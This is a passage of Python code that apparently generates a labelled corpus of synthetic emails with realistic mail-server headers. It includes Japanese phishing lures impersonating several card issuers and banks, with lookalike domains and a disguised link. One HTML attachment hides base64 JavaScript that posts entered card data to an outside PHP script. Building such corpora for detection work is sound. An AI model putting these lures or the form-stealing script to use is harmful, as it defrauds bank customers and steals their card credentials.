             f"X-Apple-UUID: {guid(seed, 'auuid')}",
             f"Received: from {helo} ({rdns or 'unknown'} [{ip}])\n\tby {mr} (Postfix) with {'ESMTPS' if m.tls else 'ESMTP'} id 4{tok(seed, 'pf', 11, ALNUM_MIX)}\n"
             f"\tfor <{m.rcpt}>; {t(0)} (UTC)",
             f"X-ICL-SCORE: {'3.33' + digits(seed, 'icl', 10) if m.junk else '1.00' + digits(seed, 'icl', 10)}",
             f"X-ICL-INFO: {b64(seed, 'iclinfo', 140)}",
             f"Authentication-Results: bimi.icloud.com; bimi=none",
             f"Authentication-Results: arc.icloud.com; arc=none",
             f"Authentication-Results: dmarc.icloud.com; dmarc={m.dmarc[0]} header.from={m.hfrom}"]
    for res, d, s in m.dkim:
        lines.append(f"Authentication-Results: dkim-verifier.icloud.com; dkim={res} (2048-bit key) header.d={d}\n"
                     f"\theader.i=@{d} header.b={_dkim_b(m, d, s)[:8]}")
    if not m.dkim:
        lines.append("Authentication-Results: dkim-verifier.icloud.com; dkim=none")
    if m.spf == "pass":
        st = f"spf.icloud.com: domain of {m.env_from} designates {ip} as permitted sender"
    elif m.spf == "none":
        st = f"spf.icloud.com: domain of {m.env_from} does not designate permitted sender hosts"
    else:
        st = f"spf.icloud.com: domain of {m.env_from} does not designate {ip} as permitted sender"
    lines.append(f"Authentication-Results: spf.icloud.com; spf={m.spf} ({st}) smtp.mailfrom={m.env_from}")
    lines.append(f"Received-SPF: {m.spf} ({st}) receiver=spf.icloud.com; client-ip={ip}; helo={helo};\n\tenvelope-from={m.env_from}")
    score = num(seed, "pps", 0, 12) if not m.junk else num(seed, "pps", 60, 95)
    lines.append(f"X-Proofpoint-Spam-Details: rule={'spam' if m.junk else 'notspam'} policy=default score={score} mlxlogscore={num(seed, 'mlx', 100, 999)}\n"
                 f" bulkscore={num(seed, 'bulk', 0, 5) if m.category != 'bulk' else num(seed, 'bulk', 10, 60)} suspectscore=0 classifier=spam adjust=0 reason=mlx\n"
                 f" scancount=1 engine=8.19.0-2308100000 definitions=main-{m.t:%Y%m%d}{digits(seed, 'defs', 4)}")
    return lines, []


_ISP = {
    "iinet": ("mx{n}.iinet.net.au", "203.59.1.{n}", "mailstore{n}.iinet.net.au", 8),
    "optus": ("mx{n}.optusnet.com.au", "211.29.132.{n}", "mail{n}.optusnet.com.au", 10),
    "singnet": ("mx{n}.singnet.com.sg", "165.21.100.{n}", "mstore{n}.singnet.com.sg", 8),
}


def rx_isp(m: Mail) -> tuple[list[str], list[str]]:
    seed = m.name
    mxf, ipf, storef, off = _ISP[m.provider]
    if m.provider == "optus":
        off = sydney(m.t)
    mx = mxf.format(n=num(seed, "mx", 1, 4))
    mxip = ipf.format(n=num(seed, "mxip", 10, 99))
    store = storef.format(n=num(seed, "st", 1, 12))
    helo, rdns, ip = m.client

    def t(sec: float) -> str:
        return fmt(m.t + timedelta(seconds=sec), off)

    lines = [f"Return-Path: <{m.env_from}>", f"Delivered-To: {m.rcpt}",
             f"Received: from {mx} ({mx} [{mxip}])\n\tby {store} with LMTP\n\tid {tok(seed, 'lmtp', 22, ALNUM_MIX)}\n\t(envelope-from <{m.env_from}>)\n\tfor <{m.rcpt}>; {t(1)}",
             f"Received: from {helo} ({rdns or 'unknown'} [{ip}])\n\tby {mx} (Postfix) with {'ESMTPS' if m.tls else 'ESMTP'} id {hx(seed, 'qid', 11, True)}\n"
             f"\tfor <{m.rcpt}>; {t(0)}"]
    ar = [f"Authentication-Results: {mx};"]
    for res, d, s in m.dkim:
        ar.append(f"\tdkim={res} (2048-bit key; unprotected) header.d={d} header.i=@{d} header.a=rsa-sha256 header.s={s} header.b={_dkim_b(m, d, s)[:8]};")
    if not m.dkim:
        ar.append("\tdkim=none;")
    ar.append(f"\tspf={m.spf} smtp.mailfrom={m.env_from};")
    res, pol = m.dmarc
    ar.append(f"\tdmarc={res}" + (f" (p={pol.lower()} dis=none)" if res != "none" else "") + f" header.from={m.hfrom}")
    lines.append("\n".join(ar))
    if m.provider == "iinet":
        lines += [f"X-VR-SPAMSTATE: {'SPAM' if m.junk else 'OK'}", f"X-VR-SPAMSCORE: {num(seed, 'vr', 0, 40) if not m.junk else num(seed, 'vr', 300, 900)}",
                  f"X-VR-SPAMCAUSE: gggruggvucftvghtrhhoucdtuddrgedv{hx(seed, 'vrc', 48)}"]
    elif m.provider == "optus":
        lines += [f"X-IronPort-Anti-Spam-Filtered: true",
                  f"X-IronPort-Anti-Spam-Result: {b64(seed, 'ipas', 96)}",
                  f'X-IronPort-AV: E=Sophos;i="6.{num(seed, "av1", 1, 12):02d},{num(seed, "av2", 100, 999)},{num(seed, "av3", 1000, 1399)}";\n   d="scan\'208";a="{num(seed, "av4", 100000000, 999999999)}"']
    else:
        lines += [f"X-CMAE-Score: {0 if not m.junk else 100}",
                  f"X-CMAE-Analysis: v=2.4 cv={b64(seed, 'cmae', 22)}= c=1 sm=1 tr=0 ts={hx(seed, 'ts', 8)}\n a={b64(seed, 'cma', 22)}==:117 a={b64(seed, 'cmb', 22)}==:17",
                  f"X-SingNet-Spam: {'yes' if m.junk else 'no'}"]
    return lines, []


def render(m: Mail) -> bytes:
    if m.provider == "gmail":
        top, trail = rx_gmail(m)
    elif m.provider == "outlook":
        top, trail = rx_microsoft(m)
    elif m.provider == "m365":
        top, trail = rx_microsoft(m, tenant="5c1b7d3e-2a4f-4b8e-9d61-0f3a8c2e7b94")
    elif m.provider == "yjp":
        top, trail = rx_yjp(m)
    elif m.provider == "icloud":
        top, trail = rx_icloud(m)
    else:
        top, trail = rx_isp(m)
    block = "\n".join(top + m.sender + m.headers + trail)
    return message(block, m.body)


# ---------------------------------------------------------------------------
# sending-system helpers
# ---------------------------------------------------------------------------


def gmail_sender(m: Mail, sent: datetime, to_header_list: str = "to:subject:message-id:date:from:mime-version") -> list[str]:
    """The trace and signatures a message sent from a consumer Gmail account carries."""
    seed = m.name
    off, z = pacific(sent)
    return [
        dkim_sig(m, "gmail.com", "20230601", to_header_list + ":from:to:cc:subject:date:message-id:reply-to", sent,
                 expire=604800, extra=f"darn={m.rcpt.split('@')[1]}"),
        f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={epoch(sent)}; x={epoch(sent) + 604800};\n"
        f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
        f"        bh={base64.b64encode(_digest(seed, 'bhgmail.com')).decode()};\n        {fold_b64('b=' + sig(seed, 'x1e100'), 66, 68, '        ')}",
        f"X-Gm-Message-State: AOJu0Y{b64(seed, 'gms', 90)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(seed, 'gss', 80)}",
        f"X-Received: by 2002:a17:90a:{hx(seed, 's1', 4)}:b0:{hx(seed, 's2', 3)}:{hx(seed, 's3', 4)}:{hx(seed, 's4', 4)} with SMTP id\n"
        f"        {tok(seed, 's5', 2)}{digits(seed, 's6', 2)}-{hx(seed, 's7', 10)}{tok(seed, 's8', 6)}.{num(seed, 's9', 10, 99)}.{num(seed, 's10', 1000000000000, 9999999999999)};\n"
        f"        {fmt(sent, off, z)}",
    ]


def o365_mbx(m: Mail, host_prefix: str, region: str, label: str = "smbx") -> str:
    return f"{host_prefix}MB{num(m.name, label, 1000, 9999)}.{region}.prod.outlook.com"


def o365_mid(m: Mail, host_prefix: str, region: str) -> str:
    mbx = o365_mbx(m, host_prefix, region)
    short = mbx.split(".")[0]
    return f"<{short}{hx(m.name, 'o365mid', 20, True)}@{mbx}>"


def o365_sender(m: Mail, sent: datetime, host_prefix: str, region: str, dkim_domain: str, selector: str = "selector1",
                onms: str | None = None, tz: float = 9, extra: list[str] | None = None) -> list[str]:
    """Trace of a message submitted from an Exchange Online mailbox (the sender's tenant)."""
    seed = m.name
    mbx = o365_mbx(m, host_prefix, region)
    hub_prefix = {"jpnprd01": "OS3PR01", "apcprd06": "SEZPR06", "ausprd01": "SY4PR01", "namprd04": "BN0PR04",
                  "apcprd04": "TYZPR04"}.get(region, host_prefix)
    hub = o365_mbx(m, hub_prefix, region, "hub")
    lines = []
    h = "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"
    ds = [dkim_sig(m, dkim_domain, selector, h, sent)]
    if onms:
        ds.insert(0, dkim_sig(m, onms, "selector1-" + onms.split(".")[0].replace("-", "") + "-onmicrosoft-com", h, sent))
    lines.append(f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n {fold_b64('b=' + sig(seed, 'marcs'), 70, 76, ' ')}")
    lines.append(f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
                 f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
                 f" bh={base64.b64encode(_digest(seed, 'marcbh')).decode()};\n {fold_b64('b=' + sig(seed, 'marcm'), 70, 76, ' ')}")
    lines.append("ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none")
    lines += ds
    lines.append(f"Received: from {mbx} (2603:1096:{hv(seed, 'sv6', 3)}:{hv(seed, 'sv62', 2)}::{hv(seed, 'sv63', 2)})\n by {hub}\n"
                 f" (2603:1096:{hv(seed, 'hv6', 3)}:{hv(seed, 'hv62', 2)}::{hv(seed, 'hv63', 2)}) with Microsoft SMTP Server (version=TLS1_2,\n"
                 f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {_ms_build(m, 'sb')}; {fmt(sent + timedelta(seconds=1), 0)}")
    lines.append(f"Received: from {mbx}\n ([fe80::{hv(seed, 'll1', 4)}:{hv(seed, 'll2', 4)}:{hv(seed, 'll3', 4)}:{hv(seed, 'll4', 4)}]) by {mbx}\n"
                 f" ([fe80::{hv(seed, 'll1', 4)}:{hv(seed, 'll2', 4)}:{hv(seed, 'll3', 4)}:{hv(seed, 'll4', 4)}%{num(seed, 'pct', 3, 7)}]) with mapi id {_ms_build(m, 'sb')};\n {fmt(sent, tz)}")
    if extra:
        lines += extra
    return lines


def ms_client_headers(m: Mail, thread_topic: str, lang: str = "en-US", has_attach: bool = False) -> list[str]:
    seed = m.name
    return [f"Thread-Topic: {thread_topic}",
            f"Thread-Index: {b64(seed, 'thidx', 44)}",
            "X-MS-Has-Attach: " + ("yes" if has_attach else ""),
            "X-MS-TNEF-Correlator:",
            f"Accept-Language: {lang}, en-US" if lang != "en-US" else "Accept-Language: en-US",
            f"Content-Language: {lang}"]


def ses_sender(m: Mail, domain: str, sent: datetime, region: str = "us-east-1", selector: str | None = None,
               h: str = "From:To:Subject:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID") -> list[str]:
    seed = m.name
    ses_sel = {"us-east-1": "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "us-west-2": "7v7vs6w47njt4pimodk5mmttbegzsi6n",
               "ap-northeast-1": "zh4gjftm6etwoq6afzugpky45synznly", "ap-southeast-2": "j5jnxeqbzlrvmoyhgmhgs6dyzv3kbrpa",
               "ap-southeast-1": "bw45wyq3hkghdoy32obql4uyexcghmc7"}[region]
    own = selector or tok(seed, "sessel", 32)
    return [dkim_sig(m, domain, own, h, sent, c="relaxed/simple"),
            dkim_sig(m, "amazonses.com", ses_sel, h, sent, c="relaxed/simple"),
            f"Feedback-ID: ::1.{region}.{b64(seed, 'fbid', 43)}=:AmazonSES",
            f"X-SES-Outgoing: {sent:%Y.%m.%d}-{m.client[2]}"]


def sendgrid_sender(m: Mail, domain: str, sent: datetime, link_domain: str | None = None) -> list[str]:
    seed = m.name
    return [dkim_sig(m, domain, "s1", "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to", sent,
                     bits=1024, c="relaxed/relaxed"),
            f"Received: by filterdrecv-{hx(seed, 'fd', 10)}-{tok(seed, 'fd2', 5)} with SMTP id filterdrecv-{hx(seed, 'fd', 10)}-{tok(seed, 'fd2', 5)}-1-"
            f"{hx(seed, 'fd3', 8, True)}-{num(seed, 'fd4', 1, 60)}\n        {fmt(sent, 0)} (UTC)",
            f"Received: from {tok(seed, 'sgh', 22, ALNUM_MIX)} (unknown)\n\tby geopod-ismtpd-{num(seed, 'gp', 1, 40)} (SG) with HTTP\n\tid {b64(seed, 'gpid', 22, True)}\n\t{fmt(sent - timedelta(seconds=1), 0)} (UTC)"]


def postfix_hop(m: Mail, frm: str, by: str, sent: datetime, off: float, qid_len: int = 10, esmtp: str = "ESMTPSA",
                ip: str | None = None) -> str:
    return (f"Received: from {frm}{' ([' + ip + '])' if ip else ''}\n\tby {by} (Postfix) with {esmtp} id {hx(m.name, 'pfq' + by, qid_len, True)}\n"
            f"\tfor <{m.rcpt}>; {fmt(sent, off)}")


OUT: list[tuple[str, str, str, bytes]] = []


def emit(m: Mail) -> None:
    OUT.append((m.category, m.name, m.desc, render(m)))


# ---------------------------------------------------------------------------
# recipients
# ---------------------------------------------------------------------------

AIKO = "aiko.tanabe88@gmail.com"          # Tokyo, Gmail
KENJI = "k_morimoto_1979@yahoo.co.jp"     # Osaka, Yahoo! JAPAN
YUI = "yui.hasegawa@icloud.com"           # Fukuoka, iCloud
TAKUYA = "takuya.nishida@outlook.jp"      # Nagoya, Outlook.com
SARAH = "sarah.whitfield@iinet.net.au"    # Perth, iiNet
BRON = "bron.hayes@optusnet.com.au"       # Brisbane, Optus
LIAM = "liam.nguyen92@outlook.com"        # Melbourne, Outlook.com
WEILING = "weiling.tan@singnet.com.sg"    # Singapore, SingNet
MARCUS = "marcuslim.sg@gmail.com"         # Singapore, Gmail
KELVIN = "kelvin.chan.kw@gmail.com"       # Hong Kong, Gmail
YUTING = "lin.yuting@icloud.com"          # Taipei, iCloud
JIWOO = "jiwoo.park.kr@gmail.com"         # Seoul, Gmail
PRIYA = "priya.raman88@outlook.com"       # Indian expat in Singapore, Outlook.com
KUMO = "contact@kumokitchen.jp"           # Kumo Kitchen (Google Workspace)
MEI = "mei@kumokitchen.jp"
SALT = "hello@saltwaterlens.com.au"       # Saltwater Lens (Microsoft 365)
JESS = "jess@saltwaterlens.com.au"
PIXEL = "business@pixeldumpling.sg"       # Pixel Dumpling (Google Workspace)
HANEUL = "biz@haneulstudio.kr"            # Haneul Studio (Google Workspace)


def jst(d: datetime) -> str:
    return fmt(d, 9)


# ===========================================================================
# ATTACKS - Japan
# ===========================================================================


def p_rakuten_card() -> None:
    name = "b15-phish-rakuten-card-riyou-kakunin"
    t = T("2023-06-12 01:14:22")
    sent = t - timedelta(seconds=3)
    m = Mail(name, "phishing",
             "Rakuten Card 'usage confirmation' in ISO-2022-JP plain text from the lookalike rakuten-card-jp.com (own SPF passes, no DKIM/DMARC), link to an e-NAVI clone on a .cn host",
             KENJI, "yjp", t, ("mail.rakuten-card-jp.com", "mail.rakuten-card-jp.com", "103.151.172.46"),
             "service@rakuten-card-jp.com", "pass", [], ("none", ""), "rakuten-card-jp.com", country="HK")
    m.sender = [f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.rakuten-card-jp.com (Postfix) with ESMTPA id 4Qfz{tok(name, 'q', 8, ALNUM_MIX)}\n"
                f"\tfor <{KENJI}>; {jst(sent)}"]
    qid = hx(name, "mid", 10, True)
    m.headers = [
        f"From: {addr('楽天カード株式会社', 'service@rakuten-card-jp.com', 'ISO-2022-JP')}",
        f"To: {KENJI}",
        f"Subject: {ew('【楽天カード】カードご利用確認のお願い（ご回答期限：6月13日）', 'ISO-2022-JP')}",
        f"Date: {jst(sent)}",
        f"Message-ID: <20230612101419.{qid}@rakuten-card-jp.com>",
        "X-Mailer: Microsoft Outlook 16.0",
        "MIME-Version: 1.0",
    ]
    token = tok(name, "link", 24, ALNUM_MIX)
    body = f"""楽天カードをご利用いただき、誠にありがとうございます。

このたび、ご本人様のご利用かどうかを確認させていただきたいお取引がございましたので、
誠に勝手ながら、カードのご利用を一部制限させていただき、ご連絡させていただきました。

つきましては、以下へアクセスの上、カードのご利用確認にご協力をお願い致します。
お客様にはご迷惑、ご心配をお掛けし、誠に申し訳ございません。
何卒ご理解いただきたくお願い申しあげます。

ご回答をいただけない場合、カードのご利用制限が継続されることもございますので、
予めご了承下さい。

■ご利用確認はこちら
https://rakuten-card-jp.com.e-navi.kzhqwp.cn/member/confirm/?sid={token}

■ご回答期限
2023年6月13日 23時59分まで

※本メールは送信専用アドレスから送信しております。ご返信いただいてもお答えできませんので、
　予めご了承ください。

■発行者■
楽天カード株式会社
https://www.rakuten-card.co.jp/
〒107-0062
東京都港区南青山二丁目6番21号
"""
    m.body = plain(body, "iso-2022-jp", "7bit")
    emit(m)


def p_smbc_vpass() -> None:
    name = "b15-phish-smbc-vpass-fusei-login"
    t = T("2023-09-04 23:41:07")
    sent = t - timedelta(seconds=2)
    m = Mail(name, "phishing",
             "SMBC Vpass 'unauthorised login' notice spoofing info@vpass.ne.jp from a Chinese host (DMARC fail, junked), base64 UTF-8 HTML with hotlinked real logo and a link to vpass clone on a .cn subdomain",
             TAKUYA, "outlook", t, ("dzqwt.cn", None, "117.50.183.92"), "sfkxb@dzqwt.cn", "pass", [],
             ("fail", "REJECT"), "vpass.ne.jp", junk=True, country="CN")
    m.sender = []
    link = f"https://www.smbc-card.com.vpass-idinfo.lhqzc.cn/memx/web_meisai/top/index.html?sid={tok(name, 's', 16)}"
    htm = f"""<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>三井住友カード</title></head>
<body style="margin:0;padding:0;background:#f2f2f2;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f2f2f2;"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:'Hiragino Kaku Gothic ProN',Meiryo,sans-serif;font-size:14px;color:#333;">
<tr><td style="padding:20px 24px;border-bottom:3px solid #004832;"><img src="https://www.smbc-card.com/common/img/logo_smbccard.png" alt="三井住友カード" width="180"></td></tr>
<tr><td style="padding:24px;line-height:1.8;">
<p>いつも三井住友カードをご利用いただき、誠にありがとうございます。</p>
<p>お客様のVpass IDに対し、第三者による不正ログインの可能性がある操作を検知いたしました。<br>
お客様の安全のため、Vpassの一部サービスを一時的に制限させていただいております。</p>
<p>つきましては、下記よりログインのうえ、ご登録情報の確認およびパスワードの再設定をお願いいたします。</p>
<table cellpadding="0" cellspacing="0" border="0" style="margin:20px auto;"><tr><td style="background:#004832;border-radius:4px;">
<a href="{link}" style="display:block;padding:14px 40px;color:#ffffff;text-decoration:none;font-weight:bold;">Vpassにログインして確認する</a></td></tr></table>
<p style="font-size:12px;color:#666;">※24時間以内にご確認いただけない場合、カードのご利用を停止させていただく場合がございます。<br>
※本メールは送信専用です。ご返信いただいてもお答えできません。</p>
</td></tr>
<tr><td style="padding:16px 24px;background:#f7f7f7;font-size:11px;color:#888;">三井住友カード株式会社<br>〒135-0061 東京都江東区豊洲2丁目2番31号 SMBC豊洲ビル<br>Copyright &copy; Sumitomo Mitsui Card Co., Ltd.</td></tr>
</table></td></tr></table></body></html>
"""
    m.headers = [
        f"From: {addr('三井住友カード', 'info@vpass.ne.jp')}",
        f"To: {TAKUYA}",
        f"Subject: {ew('【Vpass】不正ログインの可能性がありますのでご確認ください')}",
        f"Date: {fmt(sent, 8, pad=True)}",
        f"Message-ID: <{hx(name, 'mid', 16)}{digits(name, 'mid2', 6)}@dzqwt.cn>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "utf-8", "base64")
    emit(m)


def p_mufg() -> None:
    name = "b15-phish-mufg-torihiki-mokuteki"
    t = T("2024-02-19 02:03:51")
    sent = t - timedelta(seconds=4)
    env = "ohtadental@sv12084.xserver.jp"
    m = Mail(name, "phishing",
             "MUFG 'confirm the purpose of your transactions' lure sent by PHPMailer from a hacked dental-clinic WordPress site on Xserver (SPF and DKIM pass for the clinic, no DMARC); the visible link text shows bk.mufg.jp, the href goes to a .top clone",
             AIKO, "gmail", t, ("sv12084.xserver.jp", "sv12084.xserver.jp", "183.90.232.84"), env, "pass",
             [("pass", "sakura-shika-ohta.jp", "default")], ("none", ""), "sakura-shika-ohta.jp")
    m.sender = [dkim_sig(m, "sakura-shika-ohta.jp", "default", "Date:To:From:Subject:Message-ID:MIME-Version:Content-Type", sent),
                f"Received: from sakura-shika-ohta.jp (localhost [127.0.0.1])\n\tby sv12084.xserver.jp (Postfix) with ESMTPSA id {hx(name, 'pf', 10, True)}\n"
                f"\tfor <{AIKO}>; {jst(sent)}"]
    href = f"https://mufg-kakunin.jp-bk.pkwhn.top/ib/login?ref={tok(name, 'r', 12)}"
    txt = f"""三菱UFJ銀行をご利用いただき、誠にありがとうございます。

当行では、犯罪収益移転防止法に基づき、お客さまのお取引目的等を確認させていただいております。
お手数をおかけいたしますが、下記よりお取引目的等のご回答をお願いいたします。

■ご回答期限：2024年2月22日

期限までにご回答いただけない場合、口座のお取引を制限させていただく場合がございます。

▼お取引目的等のご回答はこちら
https://www.bk.mufg.jp/kakunin/

株式会社三菱UFJ銀行
"""
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<div style="font-family:'MS PGothic',sans-serif;font-size:14px;">
<p><b><font color="#d7000f">三菱UFJ銀行</font></b></p>
<p>三菱UFJ銀行をご利用いただき、誠にありがとうございます。</p>
<p>当行では、犯罪収益移転防止法に基づき、お客さまのお取引目的等を確認させていただいております。<br>
お手数をおかけいたしますが、下記よりお取引目的等のご回答をお願いいたします。</p>
<p>■ご回答期限：<b>2024年2月22日</b></p>
<p>期限までにご回答いただけない場合、口座のお取引を制限させていただく場合がございます。</p>
<p>▼お取引目的等のご回答はこちら<br>
<a href="{href}">https://www.bk.mufg.jp/kakunin/</a></p>
<p>※本メールは送信専用アドレスからお送りしています。</p>
<hr>
<p>株式会社三菱UFJ銀行<br>〒100-8388 東京都千代田区丸の内1-4-5</p>
</div>
</body></html>
"""
    m.headers = [
        f"Date: {jst(sent)}",
        f"To: {AIKO}",
        f"From: {addr('三菱UFJ銀行', 'info@sakura-shika-ohta.jp')}",
        f"Subject: {ew('【三菱UFJ銀行】お取引目的等確認のお願い')}",
        f"Message-ID: <{b64(name, 'mid', 43, True)}@sakura-shika-ohta.jp>",
        "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    m.body = Multi("alternative", f"b1=_{b64(name, 'bnd', 43, True)}", [plain(txt, "utf-8", "base64"), html(htm)])
    emit(m)


def p_aeon() -> None:
    name = "b15-phish-aeon-card-riyou-teishi"
    t = T("2024-05-27 09:22:40")
    sent = t - timedelta(seconds=1)
    m = Mail(name, "phishing",
             "AEON Card 'service suspended' lure from a throwaway .cn domain, kit HTML with simplified-Chinese glyphs in the Japanese text (确认, 账户) and a link to a Cloudflare-fronted clone",
             YUI, "icloud", t, ("mail.hvzrkg.cn", None, "223.166.74.139"), "aeon@hvzrkg.cn", "pass", [], ("none", ""),
             "hvzrkg.cn", tls=False)
    link = f"https://aeon-netstation.hvzrkg.cn/login/?uid={digits(name, 'u', 10)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body>
<div style="max-width:640px;margin:0 auto;font-size:15px;line-height:1.7;color:#222;">
<div style="background:#b60081;color:#fff;padding:12px 16px;font-size:20px;font-weight:bold;">AEON CARD</div>
<p>イオンカードをご利用いただきありがとうございます。</p>
<p>お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知したため、カードのご利用を一時停止しております。</p>
<p>お客様ご本人のご利用であるか确认させていただきたく、下記よりご登録情報の确认をお願いいたします。</p>
<p style="text-align:center;margin:28px 0;"><a href="{link}" style="background:#b60081;color:#fff;padding:12px 36px;text-decoration:none;border-radius:3px;">ご利用确认はこちら</a></p>
<p>※48時間以内に确认が取れない場合、账户は自動的に解約されますのでご注意ください。</p>
<p>今後ともイオンカードをよろしくお願い申し上げます。</p>
<p style="font-size:12px;color:#777;">イオンフィナンシャルサービス株式会社<br>暮らしのマネーサイト</p>
</div></body></html>
"""
    m.headers = [
        f"From: {addr('イオンカード', 'aeon@hvzrkg.cn')}",
        f"To: {YUI}",
        f"Subject: {ew('【イオンカード】ご利用を一時停止しております、ご确认ください')}",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <{digits(name, 'mid', 14)}.{hx(name, 'mid2', 8)}@hvzrkg.cn>",
        "X-Priority: 1",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "utf-8", "base64")
    emit(m)


def p_jcb_qr() -> None:
    name = "b15-phish-jcb-jsecure-qr"
    t = T("2025-01-15 03:31:18")
    sent = t - timedelta(seconds=2)
    dom = "myjcb-info.com"
    m = Mail(name, "phishing",
             "MyJCB J/Secure re-registration lure with no clickable link: the only call to action is an inline QR code to scan with a phone; sent from a lookalike domain with its own SPF, DKIM and even DMARC (p=none) all passing",
             KENJI, "yjp", t, (f"smtp.{dom}", f"smtp.{dom}", "45.118.132.207"), f"bounce@{dom}", "pass",
             [("pass", dom, "mail")], ("pass", "NONE"), dom, country="SG")
    qr_url = f"https://my-jcb.auth-jsecure.top/m/?c={tok(name, 'c', 20, ALNUM_MIX)}"
    cid = f"qr_{hx(name, 'cid', 12)}@{dom}"
    m.sender = [dkim_sig(m, dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent),
                f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby smtp.{dom} (Postfix) with ESMTPSA id {hx(name, 'pf', 10, True)}\n"
                f"\tfor <{KENJI}>; {jst(sent)}"]
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Meiryo,sans-serif;font-size:14px;color:#1a1a1a;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:16px 0;border-bottom:2px solid #0e3a8a;font-size:18px;font-weight:bold;color:#0e3a8a;">MyJCB　本人認証サービス（J/Secure&trade;）</td></tr>
<tr><td style="padding:20px 0;line-height:1.8;">
いつもJCBカードをご利用いただきありがとうございます。<br><br>
2025年2月より、本人認証サービス（J/Secure&trade;）はEMV 3-Dセキュアへ完全移行いたします。<br>
移行に伴い、すべての会員さまに登録情報の再確認をお願いしております。<br><br>
下記の二次元コードをスマートフォンのカメラで読み取り、<b>1月20日（月）</b>までに再登録を完了してください。<br>
期限を過ぎますと、ネットショッピングでのカードのご利用ができなくなります。<br><br>
<div style="text-align:center;"><img src="cid:{cid}" width="180" height="180" alt="二次元コード"></div>
<br>
※パソコンからは手続きできません。スマートフォンでお手続きください。<br>
※本メールは送信専用アドレスより配信しています。
</td></tr>
<tr><td style="padding:12px 0;border-top:1px solid #ccc;font-size:11px;color:#666;">株式会社ジェーシービー<br>〒107-8686 東京都港区南青山5-1-22 青山ライズスクエア</td></tr>
</table></body></html>
"""
    m.headers = [
        f"From: {addr('MyJCB', 'info@' + dom)}",
        f"To: {KENJI}",
        f"Subject: {ew('【MyJCB】本人認証サービス（J/Secure）登録情報再確認のお願い', 'ISO-2022-JP')}",
        f"Date: {jst(sent)}",
        f"Message-ID: <{guid(name, 'mid')}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = related(f"----=_NextPart_{hx(name, 'b', 3, True)}_{hx(name, 'b2', 4, True)}_{hx(name, 'b3', 8, True)}",
                     html(htm, "utf-8", "base64"),
                     Leaf("image/png", files.qr_png(qr_url), "base64", '; name="qr.png"', 'inline; filename="qr.png"', [f"Content-ID: <{cid}>"]))
    emit(m)


def p_saison_html() -> None:
    name = "b15-phish-saison-netanswer-html-attach"
    t = T("2024-08-08 00:12:55")
    sent = t - timedelta(seconds=5)
    env = "tanaka-kz@kvj.biglobe.ne.jp"
    m = Mail(name, "phishing",
             "Saison Card Net Answer lure from a hijacked BIGLOBE consumer mailbox (SPF/DKIM/DMARC pass): short text asking to open an attached HTML login page whose base64-hidden form posts card data to a PHP script on a hacked clinic site",
             TAKUYA, "outlook", t, ("mail-sender.biglobe.ne.jp", "mail-sender.biglobe.ne.jp", "133.208.186.37"), env, "pass",
             [("pass", "biglobe.ne.jp", "201912")], ("pass", "NONE"), "kvj.biglobe.ne.jp", country="JP")
    m.sender = [dkim_sig(m, "biglobe.ne.jp", "201912", "Date:From:To:Subject:Message-Id:MIME-Version:Content-Type", sent, i="@kvj.biglobe.ne.jp"),
                f"Received: from [192.168.11.4] (p3114021-ipxg00s01tokaisakaetozai.aichi.ocn.ne.jp [153.135.94.21])\n"
                f"\tby mail-sender.biglobe.ne.jp (Postfix) with ESMTPSA id {hx(name, 'q', 10, True)}\n\tfor <{TAKUYA}>; {jst(sent)}"]
    post = "https://sv3.kanamori-seikotsu.com/wp-includes/css/nt.php"
    script = base64.b64encode(f"""document.getElementById('f').addEventListener('submit',function(e){{e.preventDefault();
var d=new FormData(this);fetch('{post}',{{method:'POST',body:d}}).then(function(){{location.replace('https://www.saisoncard.co.jp/');}});}});""".encode()).decode()
    page = f"""<!DOCTYPE html>
<html lang="ja"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Netアンサー ログイン | クレディセゾン</title>
<style>body{{font-family:"Hiragino Sans",Meiryo,sans-serif;background:#f5f5f5;margin:0}}.box{{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-top:4px solid #0068b7}}
label{{display:block;font-size:13px;margin-top:14px}}input{{width:100%;padding:9px;border:1px solid #bbb;box-sizing:border-box}}button{{margin-top:22px;width:100%;padding:12px;background:#0068b7;color:#fff;border:0;font-size:15px}}</style></head>
